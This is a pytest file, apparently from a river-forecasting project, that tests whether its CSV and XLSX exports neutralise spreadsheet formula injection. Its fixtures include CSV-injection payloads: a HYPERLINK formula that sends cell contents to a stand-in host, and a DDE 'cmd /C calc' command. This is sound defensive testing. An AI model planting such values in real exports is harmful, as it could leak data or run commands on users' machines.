"""Exports (issue 12, Low): no CSV or XLSX that Tasqyn writes for people runs a spreadsheet formula from a name, an
id or a raw line of a data file; the bulletin workbook holds any text a reviewer may type."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from forecasting.spreadsheet import FORMULA_STARTS, safe_cell, safe_frame
from records.published import csv_text
from tests import dashboard_support as ds

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "Normal name",
    "Ертіс - Өскемен",
    "",
]


def _runner():
    from typer.testing import CliRunner as Runner

    return Runner()


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers such as -5 are numbers, not formulas)."""
    bad = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[-+]?\d+(\.\d*)?([eE][-+]?\d+)?", cell):
                bad.append(cell)
    return bad


def test_one_rule_for_the_api_and_the_files() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == csv_text(text)
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    frame = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))})
    out = safe_frame(frame)
    assert out["n"].tolist() == list(range(len(HOSTILE))) and frame["name"].tolist() == HOSTILE  # a copy
    assert all(not v.startswith(FORMULA_STARTS) for v in out["name"])


def _hostile_folder(root: Path) -> Path:
    src = root / "src"
    src.mkdir(parents=True)
    rows = []
    for k, name in enumerate(HOSTILE[:7]):
        rows.append({"station_id": f"H{k}", "name": name, "river": name, "country": "KZ", "lat": 50, "lon": 70})
    pd.DataFrame(rows).to_csv(src / "stations.csv", index=False)
    days = pd.date_range("2020-01-01", periods=40)
    for k in range(7):
        lines = ["date,discharge_m3s"] + [f"{d.date()},{10 + k + i % 5}" for i, d in enumerate(days)]
        lines.insert(5, "=cmd|' /C calc'!A0,@SUM(A1)")  # a hostile line: quarantined
        (src / f"H{k}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return src


def test_cli_station_csv_and_quarantine_files_run_no_formula(tmp_path: Path) -> None:
    from flows.cli import app
    from flows.ingest import run_ingest

    home = ds.Home(tmp_path / "home").ensure()
    report = run_ingest(str(_hostile_folder(tmp_path)), "station-csv", home)
    assert report.quarantine_file is not None
    for args in (["stations", "--csv"], ["stations", "--csv", "--variables"]):
        r = _runner().invoke(app, [*args, "--home", str(home.root)])
        assert r.exit_code == 0, r.output
        rows = list(csv.reader(io.StringIO(r.stdout)))
        assert len(rows) > 7 and not _formula_cells(rows), _formula_cells(rows)
        names = {c for row in rows for c in row}
        assert '\'=HYPERLINK("http://x.invalid/?"&A1,"click")' in names and "'@SUM(A1:A9)" in names
    quarantined = list(csv.reader(io.StringIO(Path(report.quarantine_file).read_text(encoding="utf-8"))))
    assert len(quarantined) > 1 and not _formula_cells(quarantined)
    assert any(c.startswith("'=cmd|") for row in quarantined for c in row)


@pytest.mark.realdata
def test_bulletin_workbook_holds_any_reviewer_text(real_data, tmp_path: Path) -> None:
    """A reason with control characters (schemathesis found it: the XLSX bulletin answered 500)."""
    from fastapi.testclient import TestClient
    from openpyxl import load_workbook

    from records.accounts import create_api_key
    from service.app import create_app

    h = ds.copy_home(ds.prepared_store(real_data, ["CH2141", "CH2185", "PROTVA_SZ"]), tmp_path / "home")
    settings = ds.settings_for(h)
    ds.publish_synthetic(h, settings)
    with ds.session_factory(settings)() as s:
        key, _ = create_api_key(s, "hydro", "hydrologist")
        s.commit()
    auth = {"Authorization": f"Bearer {key}"}
    with TestClient(create_app(settings)) as c:
        reason = "=HYPERLINK(1) ice jam\x01\x02 at the bridge \x1b"
        r = c.post(
            "/api/v1/forecasts/2020-06-01/review",
            json={"action": "override", "station_id": "CH2185", "level": 2, "reason": reason},
            headers=auth,
        )
        assert r.status_code == 200, r.text
        r = c.get("/api/v1/bulletins/2020-06-01.xlsx?lang=en", headers=auth)
        assert r.status_code == 200, r.text[:300]
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("ice jam at the bridge" in c.value for c in cells)
    assert all(c.data_type != "f" for c in cells)  # text stays text, never a formula
